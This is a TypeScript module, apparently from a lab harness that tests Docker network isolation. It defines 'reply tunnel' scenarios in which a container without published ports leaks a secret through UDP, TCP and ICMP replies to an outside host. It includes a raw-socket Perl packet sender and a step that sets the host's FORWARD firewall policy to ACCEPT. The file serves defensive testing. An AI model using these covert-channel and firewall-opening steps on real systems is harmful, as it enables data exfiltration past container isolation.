import type { EngineVersion } from '../engines.ts'
import type { Attack } from './attack.ts'
import { describeFrames } from './describe.ts'
import type { Scene } from './scene.ts'

const PORT = 7777
const VISITS = 10
/** Longer than all visits take. */
const REPLY_SECONDS = 5

interface Way {
  readonly name: string
  readonly words: string
  readonly family: 4 | 6
  readonly engines: readonly EngineVersion[]
  readonly quick?: true
  readonly options: Readonly<Record<string, string>>
}

/** The container opens nothing; whoever comes to it from outside, past all published ports, is told the secret in a reply. */
const tunnel = ({ name, words, family, engines, quick, options }: Way): Attack => ({
  name,
  seat: 'accomplice on the internet',
  words,
  shows: 'a container without published ports answers the internet',
  engines,
  ...(quick ? { quick } : {}),
  async play(scene) {
    const place = await scene.network('direct', { options })
    const attacker = await scene.attacker('direct', place)
    await openForward(scene)
    await scene.guard()
    const far = await scene.farEnd()
    const accomplice = attacker.container.exec(
      ['perl', '/attack/wire.pl', 'reply', scene.secret.toString('hex'), String(REPLY_SECONDS)],
      { timeoutMs: 20_000 },
    )
    const sent = await visit(scene, attacker.own(family))
    const { count, first } = await far.count()
    await accomplice
    return { sent, arrived: count, details: describeFrames(first) }
  },
})

/** As on hosts of which Docker's FORWARD policy of DROP was taken away, by hand or by another tool. */
async function openForward({ lab, onEnd }: Scene): Promise<void> {
  for (const tool of ['iptables', 'ip6tables']) {
    const { stdout } = await lab.host([tool, '-S', 'FORWARD'])
    const policy = /^-P FORWARD (\w+)/.exec(stdout)?.[1] ?? 'ACCEPT'
    await lab.host([tool, '-P', 'FORWARD', 'ACCEPT'])
    onEnd(() => lab.host([tool, '-P', 'FORWARD', policy]))
  }
}

/** UDP, TCP and an echo request with the secret, each some times. */
async function visit({ lab, secret }: Scene, address: string): Promise<number> {
  const argv = [
    'perl',
    '-MSocket=:all',
    '-e',
    VISIT,
    address,
    String(PORT),
    String(VISITS),
    secret.toString('hex'),
  ] as const
  const { stdout } = await lab.internet(argv, { timeoutMs: 30_000 })
  return Number(stdout)
}

const VISIT = `
my ($text, $port, $visits, $secret) = @ARGV;
my $six = $text =~ /:/;
my $domain = $six ? PF_INET6 : PF_INET;
my $to = $six ? pack_sockaddr_in6($port, inet_pton(AF_INET6, $text)) : pack_sockaddr_in($port, inet_aton($text));
my ($sent, @open) = (0);
sub checksum { my $sum = unpack '%32n*', shift; $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16; ~$sum & 0xffff }
for my $visit (1 .. $visits) {
    socket my $udp, $domain, SOCK_DGRAM, 0 or die "socket: $!";
    send $udp, 'tell me', 0, $to and $sent++;
    socket my $tcp, $domain, SOCK_STREAM, 0 or die "socket: $!";
    $tcp->blocking(0);
    connect $tcp, $to;
    $sent++;
    socket my $icmp, $domain, SOCK_RAW, $six ? 58 : 1 or die "socket: $!";
    my $echo = sub { pack('C C n n n', $six ? 128 : 8, 0, $_[0], 4242, $visit) . pack 'H*', $secret };
    send $icmp, $echo->($six ? 0 : checksum($echo->(0))), 0, $six ? pack_sockaddr_in6(0, inet_pton(AF_INET6, $text)) : pack_sockaddr_in(0, inet_aton($text)) and $sent++;
    push @open, $udp, $tcp, $icmp;
    select undef, undef, undef, 0.2;
}
print $sent;
`

const MODE = 'com.docker.network.bridge.gateway_mode_ipv'

export const REPLY_TUNNELS: readonly Attack[] = [
  tunnel({
    name: 'reply-tunnel',
    words: 'comes to a container by its own address; UDP, TCP and ICMP replies carry data',
    family: 4,
    engines: ['20.10', '26.1'],
    quick: true,
    options: {},
  }),
  tunnel({
    name: 'reply-tunnel6',
    words: 'the same in IPv6',
    family: 6,
    engines: ['20.10', '26.1'],
    options: {},
  }),
  tunnel({
    name: 'reply-tunnel-unprotected',
    words: 'comes to a container of a network of mode nat-unprotected by its own address',
    family: 4,
    engines: ['28.5'],
    quick: true,
    options: { [`${MODE}4`]: 'nat-unprotected' },
  }),
  tunnel({
    name: 'reply-tunnel6-routed',
    words: 'pings a container of a network of mode routed, in IPv6',
    family: 6,
    engines: ['28.5'],
    options: { [`${MODE}6`]: 'routed' },
  }),
]
